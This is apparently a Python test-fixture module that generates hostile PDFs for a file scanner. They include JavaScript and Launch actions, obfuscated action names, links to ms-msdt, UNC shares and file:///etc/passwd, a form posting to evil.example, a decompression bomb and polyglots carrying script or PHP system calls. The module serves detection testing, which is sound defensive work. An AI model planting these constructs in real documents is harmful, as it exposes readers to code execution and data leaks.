"""PDFs, written byte by byte: honest ones, and those that run, carry or hide something."""

import re
import zlib
from io import BytesIO

import pikepdf

from tests.hostile.zips import a_zip

LARGEST_BOMB = 400_000_000  # bytes of one stream, unpacked; 400 kB packed
TAGGED = b"/MarkInfo << /Marked true >> /StructTreeRoot 4 0 R /Lang (nl-BE)"


def a_pdf(
    root: bytes = b"",
    *objects: bytes,
    page: bytes = b"",
    trailer: bytes = b"",
    header: bytes = b"%PDF-1.7\n",
) -> bytes:
    """Return a PDF of one page; `objects` get the numbers from 4 on."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>" % page,
        *objects,
    ]
    content, places = header, []
    for number, body in enumerate(bodies, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return content + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R %s >>\n"
        b"startxref\n%d\n%%%%EOF\n"
        % (len(bodies) + 1, table, len(bodies) + 1, trailer, len(content))
    )


def a_stream(content: bytes, entries: bytes = b"") -> bytes:
    """Return the body of a stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def a_tagged_pdf() -> bytes:
    """Return a PDF with tags, a language and a title."""
    return a_pdf(
        TAGGED, b"<< /Type /StructTreeRoot >>", b"<< /Title (Fiche) >>", trailer=b"/Info 5 0 R"
    )


def a_locked_pdf(user: str) -> bytes:
    """Return a PDF that asks for a password, or only forbids when `user` is empty."""
    file = BytesIO()
    with pikepdf.open(BytesIO(a_pdf())) as pdf:
        pdf.save(file, encryption=pikepdf.Encryption(owner="geheim", user=user))
    return file.getvalue()


def packed(content: bytes) -> bytes:
    """Return a PDF with its objects in compressed object streams."""
    file = BytesIO()
    with pikepdf.open(BytesIO(content)) as pdf:
        pdf.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return file.getvalue()


def a_bomb() -> bytes:
    """Return a PDF whose table of objects unpacks to hundreds of megabytes."""
    flood = zlib.compress(bytes(LARGEST_BOMB), 9)
    table = a_stream(
        flood,
        b"/Type /XRef /W [1 4 2] /Size 5 /Root 1 0 R /Filter /FlateDecode",
    )
    start = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    return start + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(start))


SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
# The same script under names that hide it from who only looks for the word.
DISGUISED = b"<< /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (calc.exe) >>"
ANNOTATED = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>]"
OPENS = b"/OpenAction %s"
TREE = b"/Names << /%s << /Names [(x) 4 0 R] >> >>"
SPEC = b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>"
FILE = a_stream(b"MZ", b"/Type /EmbeddedFile")
PLAIN = a_pdf()
TABLELESS = re.sub(rb"xref\n.*trailer", b"trailer", PLAIN, flags=re.DOTALL)
PAGELESS = PLAIN.replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0      ")

OLDER_SCRIPT = PLAIN.replace(b"%%EOF\n", b"%%EOF\n9 0 obj\n" + SCRIPT + b"\nendobj\n", 1)


def a_widget(kind: bytes) -> bytes:
    """Return a page with one annotation of a kind."""
    return a_pdf(page=b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] >>]" % kind)


def an_object(entries: bytes) -> bytes:
    """Return a page that draws an object with these entries."""
    drawn = a_stream(b"", b"/Type /XObject " + entries)
    return a_pdf(b"", drawn, page=b"/Resources << /XObject << /X 4 0 R >> >>")


def an_action(action: bytes) -> bytes:
    """Return a page with a link that does something."""
    return a_pdf(page=ANNOTATED % action)


NEXT = b"<< /S /GoTo /D [3 0 R /Fit] /Next %s >>"
ADDRESSES = {
    "a tool of Windows": b"ms-msdt:/id PCWDiagnostic",
    "a search": b"search-ms:query=x",
    "a protocol of Word": b"ms-word:ofe|u|http://evil.example",
    "a script with a tab in it": b"java\tscript:x",
    "a script behind a control sign": b"\x01javascript:x",
    "a script behind a space": b" javascript:x",
    "a script in wide letters": b"\xfe\xff" + "javascript:x".encode("utf-16-be"),
    "a file through a gateway": b"file+x://evil",
    "a scheme with a point": b"ms.foo:bar",
    "a share, with other strokes": b"//evil/share",
    "a share, with a tab in it": b"/\t/evil/share",
    "a share, with both strokes": b"/\\\\evil",
    "the web, badly written": b"http:evil",
}


PDFS: dict[str, tuple[str, bytes, str]] = {
    "a script on opening": ("a.pdf", a_pdf(OPENS % SCRIPT), "script"),
    "a script on opening, apart": ("a.pdf", a_pdf(OPENS % b"4 0 R", SCRIPT), "script"),
    "a script among the names": ("a.pdf", a_pdf(TREE % b"JavaScript", SCRIPT), "script"),
    "a script behind a link": ("a.pdf", an_action(SCRIPT), "script"),
    "a script under a disguised name": ("a.pdf", a_pdf(OPENS % DISGUISED), "script"),
    "a script packed away": ("a.pdf", packed(a_pdf(OPENS % b"4 0 R", SCRIPT)), "script"),
    "a script in a stream": (
        "a.pdf",
        a_pdf(OPENS % b"<< /S /JavaScript /JS 4 0 R >>", a_stream(b"app.alert(1)")),
        "script",
    ),
    "a script as a next step": (
        "a.pdf",
        an_action(b"<< /S /GoTo /D [3 0 R /Fit] /Next [%s] >>" % SCRIPT),
        "script",
    ),
    "a script when the page opens": ("a.pdf", a_pdf(page=b"/AA << /O %s >>" % SCRIPT), "script"),
    "a script of which only the key is left": (
        "a.pdf",
        an_action(b"<< /S /Named /JS (app.alert\\(1\\)) >>"),
        "script",
    ),
    "a script in a part nothing leads to": ("a.pdf", a_pdf(b"", SCRIPT), "script"),
    "a script in an older state": ("a.pdf", OLDER_SCRIPT + b"%%EOF\n", "script"),
    "a script in a field": (
        "a.pdf",
        a_pdf(b"/AcroForm << /Fields [4 0 R] >>", b"<< /FT /Tx /T (x) /AA << /K %s >> >>" % SCRIPT),
        "script",
    ),
    "a program on opening": ("a.pdf", a_pdf(OPENS % LAUNCH), "launch"),
    "a program behind a link": ("a.pdf", an_action(LAUNCH), "launch"),
    "a program packed away": ("a.pdf", packed(an_action(LAUNCH)), "launch"),
    "a program under a disguised name": (
        "a.pdf",
        an_action(b"<< /S /L#61unch /F (calc.exe) >>"),
        "launch",
    ),
    "a file on another computer": (
        "a.pdf",
        an_action(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>"),
        "launch",
    ),
    "a page of an attached file": ("a.pdf", an_action(b"<< /S /GoToE /D [0 /Fit] >>"), "launch"),
    "a print when it opens": ("a.pdf", a_pdf(OPENS % b"<< /S /Named /N /Print >>"), "opening"),
    "a website when it opens": (
        "a.pdf",
        a_pdf(OPENS % b"<< /S /URI /URI (https://evil.example) >>"),
        "opening",
    ),
    "a website when it closes": (
        "a.pdf",
        a_pdf(b"/AA << /WC << /S /URI /URI (https://evil.example) >> >>"),
        "opening",
    ),
    "a link with a script": ("a.pdf", an_action(b"<< /S /URI /URI (javascript:x) >>"), "link"),
    "a link to a file": ("a.pdf", an_action(b"<< /S /URI /URI (file:///etc/passwd) >>"), "link"),
    "a link to a share": ("a.pdf", an_action(b"<< /S /URI /URI (\\\\\\\\evil) >>"), "link"),
    **{
        f"a link to {what}": ("a.pdf", an_action(b"<< /S /URI /URI (%s) >>" % address), "link")
        for what, address in ADDRESSES.items()
    },
    "a link that is no text": ("a.pdf", an_action(b"<< /S /URI /URI /javascript:x >>"), "link"),
    "a share under all links": ("a.pdf", a_pdf(b"/URI << /Base (//evil/share) >>"), "link"),
    "a website after it opens": (
        "a.pdf",
        a_pdf(OPENS % NEXT % b"<< /S /URI /URI (https://evil.example) >>"),
        "opening",
    ),
    "a print after it opens": (
        "a.pdf",
        a_pdf(OPENS % NEXT % b"[<< /S /Named /N /Print >>]"),
        "opening",
    ),
    "a thread on another computer": (
        "a.pdf",
        an_action(b"<< /S /Thread /F (\\\\\\\\evil\\\\share) /D 0 >>"),
        "launch",
    ),
    "a picture in another file": ("a.pdf", an_object(b"/F (http://evil.example/x)"), "launch"),
    "a drawing of another file": (
        "a.pdf",
        an_object(b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F (//evil/x.pdf) /Page 0 >>"),
        "launch",
    ),
    "a finer picture elsewhere": (
        "a.pdf",
        an_object(b"/Subtype /Form /BBox [0 0 9 9] /OPI << /2.0 << /F (//evil/x) >> >>"),
        "launch",
    ),
    "a form that is sent": (
        "a.pdf",
        an_action(b"<< /S /SubmitForm /F (https://evil.example) >>"),
        "form",
    ),
    "a form that fetches": ("a.pdf", an_action(b"<< /S /ImportData /F (x.fdf) >>"), "form"),
    "a form in XML": ("a.pdf", a_pdf(b"/AcroForm << /XFA 4 0 R >>", a_stream(b"<xdp/>")), "form"),
    "an attachment": ("a.pdf", a_pdf(TREE % b"EmbeddedFiles", SPEC, FILE), "attachment"),
    "an attachment packed away": (
        "a.pdf",
        packed(a_pdf(TREE % b"EmbeddedFiles", SPEC, FILE)),
        "attachment",
    ),
    "an attachment on a page": ("a.pdf", a_widget(b"FileAttachment"), "attachment"),
    "an associated file": ("a.pdf", a_pdf(b"/AF [4 0 R]", SPEC, FILE), "attachment"),
    "rich media": ("a.pdf", a_widget(b"RichMedia"), "media"),
    "a film": ("a.pdf", a_widget(b"Screen"), "media"),
    "a model in three dimensions": ("a.pdf", a_widget(b"3D"), "media"),
    "a sound behind a link": ("a.pdf", an_action(b"<< /S /Sound >>"), "media"),
    "a password": ("a.pdf", a_locked_pdf("geheim"), "locked"),
    "a lock without a password": ("a.pdf", a_locked_pdf(""), "locked"),
    "a bomb of its table": ("a.pdf", a_bomb(), "broken"),
    "cut in half": ("a.pdf", PLAIN[: len(PLAIN) // 2], "broken"),
    "without its end": ("a.pdf", PLAIN[:-8], "broken"),
    "without a table": (
        "a.pdf",
        re.sub(rb"xref\n.*trailer", b"trailer", PLAIN, flags=re.S),
        "broken",
    ),
    "without pages": (
        "a.pdf",
        PLAIN.replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0      "),
        "broken",
    ),
    "a header alone": ("a.pdf", b"%PDF-1.7\n%%EOF\n", "broken"),
    "a version that does not exist": ("a.pdf", a_pdf(header=b"%PDF-9.9\n"), "broken"),
    "a ZIP behind it": ("a.pdf", PLAIN + a_zip({"x.class": b"\xca\xfe\xba\xbe"}), "mixed"),
    "a ZIP inside it": ("a.jar", a_pdf(b"", a_stream(a_zip({"x": b"y"}))), "mixed"),
    "a page for a browser in front": ("a.pdf", b"<html><script>x</script>\n" + PLAIN, "mixed"),
    "a page for a browser in a comment": (
        "a.html",
        a_pdf(header=b"%PDF-1.7\n%<html><body><script>alert(1)</script>\n"),
        "mixed",
    ),
    "code of a server inside": ("a.php", a_pdf(b"", b"(<?php system('ls'); ?>)"), "mixed"),
    "an SVG inside": ("a.svg", a_pdf(header=b"%PDF-1.7\n%<svg onload=x>\n"), "mixed"),
    "a shell in front": ("a.sh", b"#!/bin/sh\n" + PLAIN, "mixed"),
    "a program in front": ("a.exe", b"MZ" + bytes(60) + PLAIN, "mixed"),
    "a GIF in front": ("a.gif", b"GIF89a" + PLAIN, "mixed"),
}
